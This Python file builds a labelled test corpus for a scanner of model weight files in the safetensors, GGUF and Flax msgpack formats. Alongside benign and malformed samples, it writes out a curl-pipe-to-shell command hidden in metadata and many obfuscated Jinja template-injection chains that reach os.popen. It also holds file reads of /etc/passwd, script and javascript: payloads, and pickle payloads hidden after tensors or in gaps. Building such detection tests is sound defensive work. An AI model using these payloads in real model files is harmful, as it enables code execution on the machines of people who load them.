"""Weights without code: safetensors, GGUF and Flax msgpack, and what can still hide there."""

import base64
import json
import struct

import msgpack

from archives import Entry, zip_of
from pickle_asm import dump, system


def safetensors(header, data=b"", length=None):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text) if length is None else length) + text + data


def piece(start, end, shape=None, dtype="F32"):
    return {"dtype": dtype, "shape": shape or [(end - start) // 4], "data_offsets": [start, end]}


def build(corpus):
    safe(corpus)
    gguf_files(corpus)
    flax(corpus)


def safe(corpus):
    two = {"a": piece(0, 16, [2, 2]), "b": piece(16, 24)}
    data = bytes(24)
    def ok(name, about, header, body=data):
        return corpus.benign(name, "safetensors", about, safetensors(header, body))
    ok("two-tensors.safetensors", "two tensors", two)
    ok("metadata.safetensors", "metadata of a real file", {"__metadata__": {"format": "pt"}, **two})
    ok("metadata-training.safetensors", "training metadata with a long JSON text", {"__metadata__": {"ss_network_args": "{\"eval\": 1, \"exec\": \"x\"}", "modelspec.architecture": "stable-diffusion"}, **two})
    ok("names.safetensors", "tensors named like functions", {"os.system": piece(0, 16), "eval": piece(16, 24)})
    ok("empty-tensor.safetensors", "a tensor without elements", {"a": piece(0, 16), "b": piece(16, 24), "c": {"dtype": "F32", "shape": [0], "data_offsets": [24, 24]}})
    ok("no-tensors.safetensors", "no tensors at all", {}, b"")
    corpus.benign("header-byte-0x82.safetensors", "safetensors", "the length of the header begins with a byte that is an opcode of pickle", _header_of(0x282), ["modelaudit#1745"])
    corpus.benign("header-byte-0x80.safetensors", "safetensors", "the length of the header begins with the byte of PROTO", _header_of(0x480))
    def bad(name, about, header, body=data, length=None):
        return corpus.suspicious(name, "safetensors", about, safetensors(header, body, length))
    bad("overlap.safetensors", "two tensors overlap", {"a": piece(0, 16), "b": piece(8, 24)})
    bad("hole.safetensors", "a hole between two tensors", {"a": piece(0, 8), "b": piece(16, 24)})
    bad("hole-at-start.safetensors", "a hole before the first tensor", {"a": piece(8, 24)})
    bad("trailing.safetensors", "bytes after the last tensor", two, data + bytes(64))
    bad("cut.safetensors", "the last tensor is cut", two, data[:20])
    bad("size-mismatch.safetensors", "a shape that does not fit its range", {"a": piece(0, 24, [3, 3])})
    bad("shape-overflow.safetensors", "a shape whose product overflows", {"a": piece(0, 24, [1 << 62, 8])})
    bad("negative-shape.safetensors", "a negative shape", {"a": piece(0, 24, [-6])})
    bad("offsets-reversed.safetensors", "the end comes before the start", {"a": {"dtype": "F32", "shape": [6], "data_offsets": [24, 0]}})
    bad("unknown-dtype.safetensors", "an unknown type", {"a": piece(0, 24, dtype="PICKLE")})
    bad("header-claims-gigabytes.safetensors", "a header that claims 8 GB", two, data, 8 << 30)
    bad("header-claims-exabytes.safetensors", "a header that claims 2^63 bytes", two, data, 1 << 63)
    bad("header-nested.safetensors", "a header of 5,000 nested lists", b'{"a":' + b"[" * 5000 + b"]" * 5000 + b"}", b"")
    bad("header-not-json.safetensors", "a header that is no JSON", b"{'a': 1}", b"")
    bad("header-not-utf8.safetensors", "a header that is not UTF-8", b'{"\xff\xfe": 1}', b"")
    bad("header-list.safetensors", "a header that is a list", b"[1, 2]", b"")
    bad("duplicate-key.safetensors", "one tensor name twice, readers choose one", b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"a":{"dtype":"F32","shape":[4],"data_offsets":[8,24]}}')
    bad("metadata-not-text.safetensors", "metadata that is not text", {"__metadata__": {"x": {"y": 1}}, **two})
    bad("metadata-shell.safetensors", "metadata with a shell command", {"__metadata__": {"post_load": "curl https://caiso.invalid/x | sh"}, **two})
    bad("metadata-script.safetensors", "metadata with a script of a web page", {"__metadata__": {"description": "<script>alert('caiso')</script>"}, **two})
    encoded = base64.b64encode(system(2)).decode()
    corpus.malicious("metadata-pickle.safetensors", "safetensors", "metadata with a payload in base64", safetensors({"__metadata__": {"config": encoded}, **two}, data))
    corpus.malicious("trailing-pickle.safetensors", "safetensors", "a payload after the last tensor", safetensors(two, data + system()))
    corpus.malicious("trailing-zip.safetensors", "safetensors", "a zip with a payload after the last tensor", zip_of([Entry("data.pkl", system())], prefix=safetensors(two, data)))
    corpus.malicious("hole-pickle.safetensors", "safetensors", "a payload in a hole", safetensors({"a": piece(0, 8), "b": piece(264, 272)}, bytes(8) + system().ljust(256, b"\0") + bytes(8)))
    corpus.malicious("tensor-elf.safetensors", "safetensors", "a tensor of bytes is a program", safetensors({"a": piece(0, 64, [64], "U8")}, b"\x7fELF\x02\x01\x01\x00" + bytes(56)))


def _header_of(size):
    """One tensor behind a header of exactly `size` bytes."""
    header = json.dumps({"a": piece(0, 16), "__metadata__": {"format": "pt"}}).encode()
    return struct.pack("<Q", size) + header.ljust(size, b" ") + bytes(16)


# GGUF: values are (type, encoded).
def g_text(value):
    data = value if isinstance(value, bytes) else value.encode()
    return struct.pack("<Q", len(data)) + data


def g_value(value):
    if isinstance(value, str):
        return struct.pack("<I", 8) + g_text(value)
    if isinstance(value, bool):
        return struct.pack("<IB", 7, value)
    if isinstance(value, int):
        return struct.pack("<II", 4, value)
    if isinstance(value, float):
        return struct.pack("<If", 6, value)
    return struct.pack("<IIQ", 9, 8, len(value)) + b"".join(g_text(item) for item in value)


def gguf(pairs, tensors=1, count=None, pair_count=None, version=3):
    head = b"GGUF" + struct.pack("<IQQ", version, tensors if count is None else count, len(pairs) if pair_count is None else pair_count)
    for key, value in pairs.items():
        head += g_text(key) + (value if isinstance(value, bytes) else g_value(value))
    for index in range(tensors):
        head += g_text(f"blk.{index}.weight") + struct.pack("<IQQIQ", 2, 4, 2, 0, 32 * index)
    head += b"\0" * (-len(head) % 32)
    return head + bytes(32) * tensors


BASE = {"general.architecture": "llama", "general.name": "caiso", "llama.context_length": 128, "tokenizer.ggml.tokens": ["<s>", "eval", "os", "system"]}

CHATML = (
    "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n' }}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
INSTRUCT = (
    "{{ bos_token }}{% if messages[0]['role'] == 'system' %}{% set rest = messages[1:] %}{% set system = messages[0]['content'].strip() %}"
    "{% else %}{% set rest = messages %}{% set system = '' %}{% endif %}{% for m in rest %}"
    "{% if (m['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('roles must alternate') }}{% endif %}"
    "{% if m['role'] == 'user' %}{{ '[INST] ' + m['content'] | trim + ' [/INST]' }}{% else %}{{ ' ' + m['content'] + eos_token }}{% endif %}{% endfor %}"
)
TOOLS = (
    "{%- macro describe(tool) -%}{{ tool.function.name }}: {{ tool.function.description }} {{ tool.function.parameters | tojson(indent=2) }}{%- endmacro -%}"
    "{%- set ns = namespace(first=true) -%}{%- if tools is defined and tools is not none -%}{%- for tool in tools -%}"
    "{{ describe(tool) }}{%- set ns.first = false -%}{%- endfor -%}{%- endif -%}"
    "{%- for message in messages -%}{%- if message.tool_calls is defined -%}{%- for call in message.tool_calls -%}"
    "<tool_call>{{ {'name': call.function.name, 'arguments': call.function.arguments} | tojson }}</tool_call>{%- endfor -%}"
    "{%- else -%}{{ message.role ~ ': ' ~ message.content }}{%- endif -%}{%- endfor -%}"
    "{{ strftime_now('%d %B %Y') }}{% generation %}{{ '' }}{% endgeneration %}"
)
THINK = (
    "{% for m in messages %}{% set text = m.content %}{% if '</think>' in text %}{% set text = text.split('</think>')[-1].lstrip('\\n') %}{% endif %}"
    "{% if m.role == 'assistant' and not loop.last %}{{ text }}{% elif m.content is mapping %}{{ m.content.items() | list | length }}{% else %}{{ text | replace('\\r', '') }}{% endif %}{% endfor %}"
)
CLASSES = "{{ cycler.__init__.__globals__.os.popen('echo caiso').read() }}"

TEMPLATES = {
    "globals": (CLASSES, "attribute chain from cycler to os"),
    "subclasses": ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "attribute chain from text to all classes"),
    "loop": ("{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['print']('caiso') }}{% endif %}{% endfor %}", "a loop looks for a class with builtins"),
    "attr-filter": ("{{ ''|attr('__class__')|attr('__mro__')|attr('__getitem__')(1)|attr('__subclasses__')() }}", "the filter attr in place of dots"),
    "concatenation": ("{{ ''['__cla' + 'ss__']['__mr' ~ 'o__'] }}", "names put together by + and ~"),
    "escapes": ("{{ ''['\\x5f\\x5fclass\\x5f\\x5f']['\\u005f_mro__'] }}", "names written with escapes"),
    "join": ("{{ ''|attr(['_', '_class_', '_']|join) }}", "a name joined from a list"),
    "format": ("{{ ''|attr('%sclass%s'|format('__', '__')) }}", "a name made by format"),
    "reverse": ("{{ ''|attr('__ssalc__'|reverse) }}", "a name written backwards"),
    "replace": ("{{ ''|attr('XXclassXX'|replace('X', '_')) }}", "a name made by replace"),
    "set": ("{% set a = '__glo' %}{% set b = 'bals__' %}{{ (cycler.__init__)[a ~ b]['os'].popen('echo caiso').read() }}", "a name put together from variables"),
    "request": ("{{ lipsum.__globals__['os'].popen('echo caiso').read() }}", "lipsum reaches os"),
    "self": ("{{ self.__init__.__globals__.__builtins__.__import__('os').popen('echo caiso').read() }}", "self reaches the builtins"),
    "undefined": ("{{ undefined_name.__class__.__init__.__globals__ }}", "an undefined name reaches its globals"),
    "import-call": ("{% set x = joiner.__init__.__globals__.get('os').system('echo caiso') %}", "a call in a set statement"),
    "hidden-in-chat": (CHATML + "{% if messages | length > 5 %}" + CLASSES + "{% endif %}", "the chain stands behind a real template"),
    "macro": ("{% macro m(o) %}{{ o.__globals__ }}{% endmacro %}{{ m(cycler.__init__) }}", "the chain is spread over a macro"),
    "include": ("{% include '/etc/passwd' %}", "a file is included"),
    "map-filter": ("{{ [''] | map(attribute='__class__.__mro__') | list }}", "the attribute argument of the filter map"),
}


def gguf_files(corpus):
    refs = ["CVE-2024-34359", "CVE-2026-5760"]
    corpus.benign("gguf-plain.gguf", "gguf", "no template", gguf(BASE))
    for name, template in {"chatml": CHATML, "instruct": INSTRUCT, "tools": TOOLS, "think": THINK}.items():
        corpus.benign(f"gguf-template-{name}.gguf", "gguf", f"a chat template in the style of {name}", gguf({**BASE, "tokenizer.chat_template": template}))
    corpus.benign("gguf-template-words.gguf", "gguf", "a template whose text says __class__ and os.system", gguf({**BASE, "tokenizer.chat_template": "Explain __class__ and os.system to the user. {{ messages[0].content }}"}))
    corpus.benign("gguf-version-2.gguf", "gguf", "version 2", gguf(BASE, version=2))
    for name, (template, about) in TEMPLATES.items():
        corpus.malicious(f"gguf-template-{name}.gguf", "gguf", about, gguf({**BASE, "tokenizer.chat_template": template}), refs)
    corpus.malicious("gguf-template-tool-use.gguf", "gguf", "the chain is in the template for tools", gguf({**BASE, "tokenizer.chat_template": CHATML, "tokenizer.chat_template.tool_use": CLASSES, "tokenizer.chat_templates": ["tool_use"]}), refs)
    corpus.malicious("gguf-template-rag.gguf", "gguf", "the chain is in a template of another name", gguf({**BASE, "tokenizer.chat_template.rag": CLASSES}), refs)
    corpus.malicious("gguf-template-second-key.gguf", "gguf", "the key stands twice, the second holds the chain", _second_key(), refs)
    rerank = "The answer can only be \"yes\" or \"no\". " + CLASSES
    corpus.malicious("gguf-template-rerank.gguf", "gguf", "a reranker's phrase triggers rendering without a sandbox", gguf({**BASE, "tokenizer.chat_template": rerank}), ["CVE-2026-5760"])
    def bad(name, about, data):
        return corpus.suspicious(name, "gguf", about, data)
    bad("gguf-tensor-count.gguf", "a count of tensors beyond the file", gguf(BASE, count=1 << 40))
    bad("gguf-pair-count.gguf", "a count of pairs beyond the file", gguf(BASE, pair_count=1 << 62))
    bad("gguf-text-length.gguf", "a text longer than the file", gguf({**BASE, "x": struct.pack("<IQ", 8, 1 << 60) + b"x"}))
    bad("gguf-array-length.gguf", "an array longer than the file", gguf({**BASE, "x": struct.pack("<IIQ", 9, 4, 1 << 60)}))
    bad("gguf-array-nested.gguf", "arrays nested 2,000 deep", gguf({**BASE, "x": struct.pack("<I", 9) + struct.pack("<IQ", 9, 1) * 2000}))
    bad("gguf-type-unknown.gguf", "a value type that does not exist", gguf({**BASE, "x": struct.pack("<II", 99, 0)}))
    bad("gguf-version-99.gguf", "a version that does not exist", gguf(BASE, version=99))
    bad("gguf-cut.gguf", "cut in the metadata", gguf(BASE)[:90])
    bad("gguf-tensor-outside.gguf", "a tensor that lies outside of the file", gguf(BASE)[:-32])
    bad("gguf-shape-overflow.gguf", "a tensor whose size overflows", _overflow())
    corpus.malicious("gguf-zip-tail.gguf", "gguf", "a zip with a payload after the tensors", zip_of([Entry("data.pkl", system())], prefix=gguf(BASE)))
    corpus.malicious("gguf-pickle-tail.gguf", "gguf", "a payload after the tensors", gguf(BASE) + system())
    path = {**BASE, "general.source.url": "file:///etc/passwd", "general.url": "javascript:alert('caiso')"}
    bad("gguf-url-script.gguf", "addresses that run a script or read a file", gguf(path))


def _second_key():
    pairs = {**BASE, "tokenizer.chat_template": CHATML}
    data = gguf(pairs, pair_count=len(pairs) + 1)
    at = data.index(g_text("blk.0.weight"))
    return data[:at] + g_text("tokenizer.chat_template") + g_value(CLASSES) + data[at:]


def _overflow():
    data = gguf(BASE)
    at = data.index(g_text("blk.0.weight")) + len(g_text("blk.0.weight"))
    return data[: at + 4] + struct.pack("<QQ", 1 << 63, 1 << 63) + data[at + 20 :]


def flax(corpus):
    array = msgpack.ExtType(1, msgpack.packb([[2, 2], "float32", bytes(16)]))
    scalar = msgpack.ExtType(3, msgpack.packb([[], "float32", bytes(4)]))
    good = {"params": {"Dense_0": {"kernel": array, "bias": array}}, "step": scalar}
    def ok(name, about, value):
        return corpus.benign(name, "flax", about, msgpack.packb(value))
    ok("params.msgpack", "a tree of arrays", good)
    ok("params-names.msgpack", "a tree with names like functions", {"eval": {"exec": array}, "os.system": scalar})
    ok("params-complex.msgpack", "a complex scalar", {"phase": msgpack.ExtType(2, msgpack.packb([1.0, 2.0]))})
    def bad(name, about, data):
        return corpus.suspicious(name, "flax", about, data)
    bad("ext-unknown.msgpack", "an extension type that Flax does not have", msgpack.packb({"a": msgpack.ExtType(77, b"caiso"), **good}))
    bad("array-claims.msgpack", "an array whose shape does not fit its bytes", msgpack.packb({"a": msgpack.ExtType(1, msgpack.packb([[1 << 40], "float32", bytes(4)]))}))
    bad("map-claims.msgpack", "a map that claims four billion pairs", b"\x81\xa6params\xdf\xff\xff\xff\xff")
    bad("nested.msgpack", "lists nested 20,000 deep", b"\x81\xa1a" + b"\x91" * 20000 + b"\xc0")
    bad("cut.msgpack", "cut in an array", msgpack.packb(good)[:40])
    bad("array-object-dtype.msgpack", "an array of Python objects", msgpack.packb({"a": msgpack.ExtType(1, msgpack.packb([[1], "object", dump([1])]))}))
    corpus.malicious("array-object-pickle.msgpack", "flax", "an array of Python objects holds a payload", msgpack.packb({"a": msgpack.ExtType(1, msgpack.packb([[1], "object", system()]))}))
    corpus.malicious("trailing-pickle.msgpack", "flax", "a payload after the tree", msgpack.packb(good) + system())
    corpus.malicious("bytes-pickle.msgpack", "flax", "bytes of the tree are a payload", msgpack.packb({"__restore__": system(), **good}))
